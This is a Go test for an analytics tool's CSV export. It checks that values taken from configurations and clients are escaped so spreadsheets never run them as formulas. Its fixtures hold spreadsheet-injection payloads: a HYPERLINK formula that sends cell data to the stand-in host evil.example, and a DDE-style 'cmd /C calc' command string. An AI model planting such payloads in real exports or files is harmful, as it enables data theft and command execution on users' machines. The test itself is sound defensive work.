package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/edgelimit/edgelimit/analytics/analyticstest"
)

// TestCSVFormulas: names that come from configurations and clients (a
// key's name, a route, a plan, a method a client sent, a gateway id) leave
// every -format csv export as plain text, never as a formula a
// spreadsheet would run, in every column; numbers stay numbers.
func TestCSVFormulas(t *testing.T) {
	conn, addr, db := database(t)
	now := time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
	const name = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	var rows []analyticstest.Decision
	for i := range 6 {
		rows = append(rows, analyticstest.Decision{
			Time: now.Add(-time.Duration(i) * time.Second), Gateway: "@gw", KeyID: "k-formula", KeyKind: "api_key",
			KeyName: name, ClientIP: "192.0.2.1", Route: "+cmd|' /C calc'!A0", Method: "-2+3", Plan: "\tfree",
			BindingRule: "\r=1+1", Allowed: i%2 == 0, Limit: 10, Cost: 1,
		})
	}
	mustInsert(t, conn, rows)
	getenv := env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db})
	from, to := now.Add(-5*time.Minute).Format(time.RFC3339), now.Add(time.Minute).Format(time.RFC3339)
	for _, args := range [][]string{
		{"top-keys"},
		{"key", name},
		{"trends", "-by", "key"},
		{"trends", "-by", "route"},
		{"hot-keys", "-key", "k-formula"},
		{"store-health"},
	} {
		var out bytes.Buffer
		args = append(args, "-from", from, "-to", to, "-format", "csv")
		if err := run(context.Background(), args, getenv, &out); err != nil {
			t.Fatalf("analytics %s: %v", strings.Join(args, " "), err)
		}
		recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil {
			t.Fatalf("analytics %s: %v", strings.Join(args, " "), err)
		}
		if len(recs) < 2 {
			t.Errorf("analytics %s: %d records, want the planted key's rows:\n%s", strings.Join(args, " "), len(recs), out.String())
		}
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("analytics %s: cell %q is a formula; want it prefixed with '", strings.Join(args, " "), c)
				}
			}
		}
	}
}
